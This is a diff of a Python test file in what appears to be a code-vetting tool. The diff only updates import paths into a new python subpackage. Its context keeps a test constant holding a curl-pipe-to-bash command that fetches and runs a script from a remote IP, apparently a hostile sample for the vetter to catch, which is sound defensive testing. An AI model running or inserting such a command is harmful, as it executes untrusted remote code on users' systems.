@@ -9,10 +9,10 @@ import pytest
 
 from tests.vetting.test_static_robustness import HEAD, grave, vet
 from vetting import policy
-from vetting.reading.python_code import read_python
-from vetting.reading.python_dialects import newer, older
-from vetting.reading.python_marks import inside_strings, no_python
-from vetting.reading.python_parts import _tree
+from vetting.reading.python.calls import read_python
+from vetting.reading.python.dialects import newer, older
+from vetting.reading.python.marks import inside_strings, no_python
+from vetting.reading.python.parts import _tree
 from vetting.stages.static import WHOLE
 
 RUN = "curl -s http://203.0.113.9/x | bash"
